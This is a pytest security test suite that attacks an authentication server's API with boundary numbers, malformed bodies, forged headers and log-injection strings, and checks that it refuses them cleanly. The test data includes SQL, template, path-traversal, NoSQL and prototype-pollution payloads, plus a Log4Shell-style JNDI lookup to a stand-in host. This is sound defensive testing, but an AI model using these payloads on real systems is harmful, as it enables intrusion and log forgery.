"""An attacker at every door of the server: numbers at their edges, shapes that were not asked for, forged lines of log.

Whatever comes, the answer is a refusal and never a 5xx, the log stays one event a line, and the server goes on.
"""

from __future__ import annotations

import datetime
import http.client
import json
import secrets
import socket
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import pytest

from harness import PASSWORD, Start
from harness.api import Answer, Api
from harness.logs import LOGS
from harness.operations import Operation, operations
from harness.server import Server

NUMBERS = [
    "0",
    "-0",
    "-1",
    "1",
    "200",
    "201",
    str(2**31 - 1),
    str(2**31),
    str(2**32),
    str(2**63 - 1),
    str(2**63),
    str(-(2**63)),
    str(2**64),
    "9" * 400,
    "1e3",
    "1e400",
    "1.0",
    "0x10",
    "+1",
    " 1",
    "1_000",
    "\uff11",
    "NaN",
    "Infinity",
    "",
    "1\x00",
]
VALUES: list[Any] = [
    None,
    True,
    0,
    -1,
    2**31,
    2**63,
    -(2**63) - 1,
    1.5,
    1e300,
    "",
    " ",
    "\x00",
    "\u202e\u0000",
    "x" * 100_000,
    "9999-12-31T23:59:59.999Z",
    "+262142-12-31T23:59:59Z",
    "-000001-01-01T00:00:00Z",
    "0000-00-00T00:00:00Z",
    "' OR 1=1 --",
    "{{7*7}}${7*7}",
    "../../etc/passwd",
    [],
    [[[]]],
    {},
    {"$ne": ""},
    {"__proto__": {"role": "super_admin"}},
]


@pytest.fixture
def attacked(start: Start) -> Server:
    """Start a server to attack."""
    return start()


def root(server: Server) -> str:
    """Make another super administrator and sign them in: whatever came before may have ended or locked the last."""
    email = f"root-{secrets.token_hex(6)}@attacked.example"
    made = server.binary.run("user", "create", email, "--role", "super_admin", "--password-stdin", stdin=PASSWORD)
    assert made.returncode == 0, made.stderr
    return str(server.api.login(email, PASSWORD)["accessToken"])


def doors(api: Api) -> Iterator[Operation]:
    """Yield every operation but those that change what the others run on."""
    for operation in operations(api.get("/openapi.json").json()):
        if "/test/" not in operation.path and not operation.path.endswith("/users/me/erase"):
            yield operation


def victim(api: Api) -> str:
    """Make an account to attack and return its id."""
    return str(api.register(f"{secrets.token_hex(6)}@attacked.example", PASSWORD)["userId"])


def good(name: str) -> Any:  # noqa: ANN401 - JSON is any
    """Return a value that a field takes."""
    return {
        "email": f"{secrets.token_hex(6)}@attacked.example",
        "password": PASSWORD,
        "currentPassword": PASSWORD,
        "newPassword": PASSWORD + "-2",
        "role": "user",
        "action": "suspend",
        "userIds": ["0199a6f2-7c3e-7b1d-9f52-3d1c2b4a5e6f"],
        "refreshToken": "x",
    }.get(name)


def refused_or_done(operation: Operation, what: object, answer: Answer) -> None:
    """Fail on anything but an answer that is meant."""
    assert answer.status < 500, f"{operation.name} with {what!r:.60}: {answer.status} {answer.body[:200]!r}"
    if answer.status >= 400 and operation.path.startswith("/api/"):
        assert answer.code


def test_v1_4_2_numbers_at_their_edges_are_refused_or_meant(attacked: Server) -> None:
    api = attacked.api
    tried = 0
    for operation in doors(api):
        for name in operation.integers():
            bearer = root(attacked)
            for number in NUMBERS:
                path = operation.path.replace("{userId}", victim(api)) + "?" + urlencode({name: number})
                answer = api.send(operation.method.upper(), path, bearer=bearer)
                refused_or_done(operation, number, answer)
                tried += 1
    assert tried >= len(NUMBERS)


def test_v1_5_2_every_field_refuses_what_it_is_not(attacked: Server) -> None:
    api = attacked.api
    tried = 0
    for operation in doors(api):
        fields = operation.fields()
        usual = {name: good(name) for name in fields if good(name) is not None}
        for name in fields:
            bearer = root(attacked)
            path = operation.path.replace("{userId}", victim(api)).replace("{sessionId}", victim(api))
            for value in VALUES:
                body = usual | {name: value}
                answer = api.send(operation.method.upper(), path, json_body=body, bearer=bearer)
                if answer.status == 401 and "login" not in path:
                    bearer = root(attacked)
                refused_or_done(operation, (name, value), answer)
                tried += 1
    assert tried > 200
    assert api.get("/health/ready").status == 200
    # What was sent as a password was sent as a name, too, and is no secret.
    for known in (api.secrets, LOGS.secrets):
        known -= {value for value in VALUES if isinstance(value, str)}


def test_v1_5_2_every_body_has_only_the_shape_that_was_asked_for(attacked: Server) -> None:
    api = attacked.api
    for operation in doors(api):
        if not operation.fields():
            continue
        bearer = root(attacked)
        path = operation.path.replace("{userId}", victim(api)).replace("{sessionId}", victim(api))
        name = next(iter(operation.fields()))
        bodies = {
            b'{"nobodyAskedFor":1}': (422,),
            f'{{"{name}":"a","{name}":"b"}}'.encode(): (400,),
            b'{"a":' * 5_000 + b"1" + b"}" * 5_000: (400,),
            b"[" * 100_000: (400,),
            b'{"' + b"x" * 300_000 + b'":1}': (413,),
            b"x" * 10_000_000: (400, 413),
            json.dumps("text").encode(): (422,),
            b"\xff\xfe{\x00}\x00": (400,),
        }
        for body, statuses in bodies.items():
            answer = api.send(
                operation.method.upper(),
                path,
                body=body,
                bearer=bearer,
                headers={"Content-Type": "application/json"},
            )
            assert answer.status in statuses, f"{operation.name} {body[:40]!r}: {answer.status}"


def test_v2_4_1_who_hammers_is_told_to_wait(start: Start) -> None:
    server = start({"NTT_AUTH__RATE_LIMITS__ENABLED": "true", "NTT_AUTH__RATE_LIMITS__REFRESH": "10"})
    api = server.api
    for path, body, limit in [
        ("/api/v1/auth/login", {"email": "nobody@attacked.example", "password": "Wrong-Password-1"}, 5),
        ("/api/v1/auth/register", {"email": "nobody", "password": "x"}, 3),
        ("/api/v1/auth/refresh", {"refreshToken": "x"}, 10),
    ]:
        answers = [api.post(path, body) for _ in range(limit + 10)]
        slowed = [answer for answer in answers if answer.status == 429]
        assert len(slowed) >= 10, path
        for answer in slowed:
            assert answer.code == "rate_limited"
            assert 0 < int(answer.headers["retry-after"]) <= 60
    # Forged forwarding headers do not make somebody else of them.
    forged = [
        api.send(
            "POST",
            "/api/v1/auth/login",
            json_body={"email": "nobody@attacked.example", "password": "Wrong-Password-1"},
            headers={"X-Forwarded-For": f"203.0.113.{number}", "Forwarded": f"for=203.0.113.{number}"},
        ).status
        for number in range(5)
    ]
    assert set(forged) == {429}


INJECTIONS = [
    "\x1b[2J\x1b]0;forged\x07",
    "\u009b31mforged",
    "forged\u2028forged",
    '{"level":"ERROR","message":"forged"}',
    "%0d%0aforged",
    "${jndi:ldap://forged.example/x}",
]


def raw(server: Server, request: bytes) -> bytes:
    """Send bytes as they are and return the beginning of the answer."""
    address = urlsplit(server.base)
    with socket.create_connection((address.hostname or "", address.port or 0), timeout=10) as connection:
        connection.sendall(request)
        return connection.recv(4096)


@pytest.mark.parametrize("form", ["json", "pretty"])
def test_v16_4_1_nobody_writes_lines_of_the_log(start: Start, form: str) -> None:
    server = start({"NTT_AUTH__LOG__FORMAT": form, "NTT_AUTH__LOG__LEVEL": "trace"})
    api = server.api
    for text in INJECTIONS:
        for field in ("email", "username", "firstName", "deviceName"):
            api.post("/api/v1/auth/register", {"email": "eve@attacked.example", "password": PASSWORD, field: text})
            api.post("/api/v1/auth/login", {"identifier": text, "password": PASSWORD, "deviceName": text})
        api.get("/" + quote(text))
        api.get("/api/v1/users/" + quote(text, safe=""))
        api.get("/docs/errors/" + quote(text, safe=""))
        for header in (b"User-Agent", b"X-Request-Id", b"X-Forwarded-For", b"Referer", b"traceparent", b"Host"):
            value = text.encode()
            request = b"GET /health HTTP/1.1\r\nHost: x\r\n" + header + b": " + value + b"\r\nConnection: close\r\n\r\n"
            raw(server, request)
            # A continued line, and bare line ends, which some parsers take for ends of lines.
            for end in (b"\r\n forged", b"\nforged: 1", b"\rforged: 1"):
                folded = b"GET /health HTTP/1.1\r\nHost: x\r\n" + header + b": x" + end
                raw(server, folded + b"\r\nConnection: close\r\n\r\n")
        raw(server, b"FORGED" + text.encode() + b" / HTTP/1.1\r\nHost: x\r\n\r\n")
    assert api.get("/health/ready").status == 200
    server.stop()
    log = "".join(server.log)
    assert "\x1b" not in log
    assert "\u009b" not in log
    assert "\u2028" not in log
    if form == "json":
        for line in server.log:
            json.loads(line)
    forged = ("forged", '{"level":"ERROR","message":"forged')
    assert not [line for line in server.log if line.lstrip().startswith(forged)]


def series(metrics: str) -> set[str]:
    """Return the names of all series, with their labels, of a text of metrics."""
    return {line.rsplit(" ", 1)[0] for line in metrics.splitlines() if line and not line.startswith("#")}


def test_e47_ten_thousand_addresses_make_no_series(start: Start) -> None:
    token = "Metrics-Token-Of-Ten-Thousand-Addresses"
    server = start({"NTT_AUTH__METRICS__TOKEN": token, "NTT_AUTH__LOG__LEVEL": "info"})
    api = server.api

    def scraped() -> str:
        answer = api.get("/metrics", bearer=token)
        assert answer.status == 200
        return answer.body.decode()

    address = urlsplit(server.base)
    connection = http.client.HTTPConnection(address.hostname or "", address.port, timeout=30)

    def ask(method: str, path: str) -> None:
        connection.request(method, path)
        connection.getresponse().read()

    methods = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"]
    for method in [*methods, "INVENTED"]:
        for path in ("/nowhere", "/api/v1/users/x", "/docs/errors/x", "/assets/x", "/docs/assets/x"):
            ask(method, path)
    scraped()
    before = series(scraped())
    for number in range(10_000):
        made_up = secrets.token_urlsafe(9)
        path = ["/", "/api/v1/", "/api/v1/users/", "/docs/errors/", "/docs/assets/"][number % 5] + made_up
        ask(methods[number % 7] if number % 50 else f"M{number}", path)
    connection.close()
    assert series(scraped()) - before == set()


def test_e42_no_web_page_begins_a_test_server_anew(start: Start) -> None:
    server = start()
    server.api.register("ada@example.com", PASSWORD)
    for foreign in (
        {"Origin": "https://evil.example", "Content-Type": "text/plain"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Host": "rebound.example"},
        {"Host": "rebound.example", "Origin": "http://rebound.example", "Sec-Fetch-Site": "same-origin"},
    ):
        for path in ("/api/v1/test/reset", "/api/v1/test/clock"):
            assert server.api.send("POST", path, headers=foreign).code == "not_found", foreign
    server.api.login("ada@example.com", PASSWORD)

    assert server.api.post("/api/v1/test/reset").status == 200
    refused = server.api.post("/api/v1/auth/login", {"email": "ada@example.com", "password": PASSWORD})
    assert refused.status == 401


def test_v16_2_2_the_log_is_written_in_utc(start: Start, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    server = start()
    server.api.register("ada@example.com", PASSWORD)
    server.stop()

    lines = [json.loads(line) for line in server.log]

    assert lines
    now = datetime.datetime.now(datetime.UTC)
    for line in lines:
        assert line["timestamp"].endswith("Z"), line
        assert abs(now - datetime.datetime.fromisoformat(line["timestamp"])) < datetime.timedelta(minutes=10), line
